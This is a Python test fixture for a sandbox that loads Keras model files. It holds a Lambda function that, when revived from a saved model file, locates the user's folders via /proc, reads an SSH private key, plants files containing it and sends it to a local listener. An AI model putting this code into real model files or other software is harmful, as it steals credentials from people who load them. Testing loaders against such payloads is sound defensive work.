"""A Lambda function that does what a crafted model file's code would do, for the sandbox test.

``hostile_scaling`` is the FaceNet residual scaling plus an attack. Saved by Keras 2 it
travels as marshalled bytecode, and loading the file revives and runs it. Then it tries
what a real attacker tries from inside a model loader:

- find where the user is: the working folder and ``HOME`` of the process that started
  the loader (``/proc/<ppid>/cwd``, ``/proc/<ppid>/environ``, ``PWD``) and the folder of
  the model file itself (the HDF5 file it is being read from is open: ``/proc/self/fd``);
- read a private key from that home (the test places a fake one there);
- leave a file holding what it found in each of those folders;
- send it to a listener on ``127.0.0.1:PORT`` (the test opens one).

It also leaves the canary marker (``COMPAT_CANARY_DIR``) so the worker reports that stored
code ran. Built in code, as the generator builds it, the function is only the scaling:
the attack runs only from bytecode revived out of a file (a new code object), so making
the fixture harms nothing. The body is self-contained, imports included: revived from a
file, its globals are the loader's, not this module's. Fixed names and the port are
literals in the body for the same reason; the constants below repeat them for the test.
"""

import os

PORT = 47917
SECRET = os.path.join(".ssh", "id_ed25519")
PLANTED = "compat-hostile-was-here.txt"
VARIANTS = {"hostile": ("h5",)}  # written on demand only, never into the committed fixtures


def hostile_scaling(x, scale):
    import os
    import socket
    import sys

    own = getattr(sys.modules.get("compat.inside.hostile"), "hostile_scaling", None)
    if getattr(own, "__code__", None) is sys._getframe().f_code:
        return x * scale
    folder = os.environ.get("COMPAT_CANARY_DIR")
    if folder:
        try:
            with open(os.path.join(folder, "canary-ran"), "a") as marker:
                marker.write("file\n")
        except OSError:
            pass
    parent = os.getppid()
    homes, places = [os.environ.get("HOME")], [os.environ.get("PWD")]
    try:
        with open(f"/proc/{parent}/environ", "rb") as handle:
            for item in handle.read().split(b"\0"):
                name, _, value = item.decode("utf-8", "replace").partition("=")
                if name == "HOME":
                    homes.append(value)
                elif name == "PWD":
                    places.append(value)
    except OSError:
        pass
    try:
        places.append(os.readlink(f"/proc/{parent}/cwd"))
    except OSError:
        pass
    try:
        for fd in os.listdir("/proc/self/fd"):
            try:
                target = os.readlink("/proc/self/fd/" + fd)
            except OSError:
                continue
            if target.endswith((".h5", ".hdf5", ".keras")):
                places.append(os.path.dirname(target))
    except OSError:
        pass
    secret = b""
    for home in homes:
        if home and not secret:
            try:
                with open(os.path.join(home, ".ssh", "id_ed25519"), "rb") as handle:
                    secret = handle.read()
            except OSError:
                pass
    seen = set()
    for place in places + homes:
        if not place or place in seen:
            continue
        seen.add(place)
        try:
            with open(os.path.join(place, "compat-hostile-was-here.txt"), "wb") as planted:
                planted.write(b"written by code stored in a model file\n" + secret)
        except OSError:
            pass
    try:
        connection = socket.create_connection(("127.0.0.1", 47917), 0.5)
        connection.sendall(secret or b"no secret found\n")
        connection.close()
    except OSError:
        pass
    return x * scale
